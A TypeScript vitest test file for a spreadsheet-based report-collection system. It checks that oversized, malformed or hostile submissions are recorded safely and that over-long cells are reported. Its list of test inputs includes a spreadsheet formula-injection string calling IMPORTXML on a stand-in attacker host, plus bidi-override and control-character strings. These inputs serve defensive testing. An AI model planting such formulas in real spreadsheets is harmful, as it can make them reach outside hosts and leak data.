import { beforeEach, expect, test } from 'vitest';
import type { Cell } from '../../sheets-schema/cell.ts';
import type { Tab } from '../../sheets-schema/define-tab.ts';
import { identification } from '../../sheets-schema/form.ts';
import { decisions } from '../../sheets-schema/tabs/decisions.ts';
import { answers, filers, LONGEST_OF_A_PERSON, reports } from '../../sheets-schema/tabs/logs.ts';
import { outline } from '../../sheets-schema/tabs/outline.ts';
import { tasks } from '../../sheets-schema/tabs/register.ts';
import { rounds } from '../../sheets-schema/tabs/rounds.ts';
import { system } from '../../sheets-schema/tabs/system.ts';
import { units } from '../../sheets-schema/tabs/units.ts';
import { askTheCities, ROUND, useOffice } from '../support/office.ts';
import { fullReport } from '../support/reports.ts';

const office = useOffice();

beforeEach(async () => {
  await askTheCities(office, { cities: ['HPG', 'CTO'] });
  await office.syncAt('2025-10-23 14:05');
});

type Fixed = Partial<Record<keyof typeof identification, string>>;

const typed = ['office', 'filer', 'position', 'email', 'phone', 'officialNumber', 'officialLink'] as const;
const LONG = 'x'.repeat(60_000);
const texts: readonly string[] = [
  LONG,
  'Đã rà soát '.repeat(90_000),
  '=IMPORTXML("https://evil.example")',
  '#REF!',
  '\u202Egnod\u2066 \u200B\u0007',
  `a\uD83C ${'\u0301'.repeat(60_000)}`,
  '9'.repeat(400),
];
const days = ['0025-10-23', '0001-01-01', '1925-10-23', '1989-12-31', '2200-01-01', '2568-10-23', '9999-12-31'];

/** Nobody's: without a code. */
async function stranger(own: Fixed, content: Readonly<Record<string, string>> = {}): Promise<void> {
  await office.file('HPG', { '1.4': 'Không có', ...content }, { code: 'x', identification: own });
}

test('no answer of a stranger holds up anything, and each is recorded once', async () => {
  for (const text of texts)
    await stranger(Object.fromEntries(typed.map((name) => [name, text])), { '1.1': text, '1.3-so-ky-hieu': text });
  for (const name of typed) await stranger({ [name]: LONG });
  for (const day of days) await stranger({ officialDate: day }, { '1.3-ngay': day });
  await office.file('CTO', fullReport('CTO'));
  const sent = texts.length + typed.length + days.length + 1;
  let recorded = 0;
  for (let run = 0; run < 3; run++) recorded += (await office.sync()).recorded;
  expect(recorded).toBe(sent);
  expect(await office.rowsOf(reports)).toHaveLength(sent);
  expect(await office.rowsOf(filers)).toHaveLength(sent);
  expect(await office.errors()).toEqual([]);
  expect((await office.mailsTo('CTO')).map(({ subject }) => subject).join('\n')).toContain('tiếp nhận');
  await office.syncAt('2025-10-24 08:40');
  expect((await office.mailsTo('HPG')).length).toBeGreaterThan(0);
});

test('what was not taken over whole is told by the version and the question', async () => {
  const number = `123/BC-UBND ${'x'.repeat(60_000)}`;
  await office.file('HPG', fullReport('HPG'), {
    identification: { officialDate: '0025-10-23', officialNumber: number, filer: 'Trần '.repeat(20_000) },
  });
  expect(await office.sync()).toMatchObject({ recorded: 1, failed: 0 });
  const [report] = await office.rowsOf(reports);
  expect(report).toMatchObject({ officialDate: null, officialNumber: expect.stringMatching(/^123\/BC-UBND x+…$/) });
  const told = (await office.findings()).filter(({ row }) => row === report?.version);
  expect(told.map(({ column }) => column)).toEqual([
    identification.officialNumber.title,
    identification.officialDate.title,
    identification.filer.title,
  ]);
  expect(told[1]?.found).toContain('0025-10-23');
  expect(JSON.stringify(await office.rowsOf(answers))).not.toContain('Trần');
  expect((await office.rowsOf(filers))[0]?.name?.length).toBeLessThanOrEqual(LONGEST_OF_A_PERSON);
});

test('a row of the log that nobody can read makes no response new', async () => {
  await office.file('HPG', fullReport('HPG'));
  await office.sync();
  const [version] = await office.rowsOf(reports);
  await office.edit({
    updateCells: {
      start: { sheetId: reports.sheetId, rowIndex: await office.firstRowOf(reports), columnIndex: 6 },
      rows: [{ values: [{ userEnteredValue: { stringValue: 'viết đè' } }] }],
      fields: 'userEnteredValue',
    },
  });
  for (let run = 0; run < 3; run++) expect(await office.sync()).toMatchObject({ recorded: 0 });
  expect((await office.cellsOf(reports)).filter(([code]) => code === version?.version)).toHaveLength(1);
});

test('a file that an earlier release filled with rows it could not read goes on', async () => {
  await office.file('HPG', fullReport('HPG'), { identification: { officialDate: '2025-10-23' } });
  await office.sync();
  const day = Object.keys(reports.columns).indexOf('officialDate');
  const written = (await office.cellsOf(reports))[await office.firstRowOf(reports)] ?? [];
  const again = written.map((cell, at) => (at === day ? -684_797 : cell));
  const cellOf = (value: Cell) =>
    value === ''
      ? {}
      : { userEnteredValue: typeof value === 'number' ? { numberValue: value } : { stringValue: String(value) } };
  const twice = [again, again].map((row) => ({ values: row.map(cellOf) }));
  const counted = (await office.cellsOf(system)).findIndex(([cell]) => cell === 'rows.reports');
  await office.edit(
    { appendCells: { sheetId: reports.sheetId, rows: twice, fields: 'userEnteredValue' } },
    {
      updateCells: {
        start: { sheetId: system.sheetId, rowIndex: counted, columnIndex: 1 },
        rows: [{ values: [cellOf('3')] }],
        fields: 'userEnteredValue',
      },
    },
  );
  expect(await office.syncAt('2025-10-29 08:40')).toMatchObject({ recorded: 0, failed: 0 });
  expect(await office.errors()).toEqual([]);
  expect((await office.mailsTo('CTO')).length).toBeGreaterThan(1);
});

test.each([
  { tab: decisions, column: 'Lý do' },
  { tab: rounds, column: 'Thời hạn (nguyên văn)' },
  { tab: rounds, column: 'Đơn vị phải báo cáo' },
  { tab: rounds, column: 'Nhịp nhắc' },
  { tab: rounds, column: 'Tên kỳ' },
  { tab: tasks, column: 'Chủ trì' },
  { tab: tasks, column: 'Thời hạn (nguyên văn)' },
  { tab: tasks, column: 'Áp dụng cho' },
  { tab: outline, column: 'Áp dụng cho' },
  { tab: outline, column: 'Câu hỏi' },
  { tab: units, column: 'Tên gọi' },
])(
  '49,990 characters in a cell of people stop their row alone: $tab.title, $column',
  async ({ tab, column }: { tab: Tab; column: string }) => {
    const long = 'Nội dung '.repeat(6_000).slice(0, 49_990);
    if (tab === decisions)
      await office.decide('Gia hạn', {
        'Thời điểm': '24/10/2025 09:00',
        'Đơn vị': 'HPG',
        'Giá trị': '31/10/2025',
        [column]: long,
      });
    else await office.type(tab, await firstCell(tab), column, long);
    await office.file('CTO', fullReport('CTO'));
    expect(await office.sync()).toMatchObject({ recorded: 1 });
    const told = (await office.errors()).find((finding) => finding.tab === tab.title && finding.column === column);
    expect(told).toMatchObject({ found: expect.stringContaining('49.990 ký tự') });
    expect(await office.sync()).toMatchObject({ googleCalls: 2 });
  },
);

/** What stands in the first column of the row that is made too long: the key, or what comes before it. */
async function firstCell(tab: Tab): Promise<string> {
  return tab === rounds ? ROUND : String((await office.cellsOf(tab))[1]?.[0]);
}
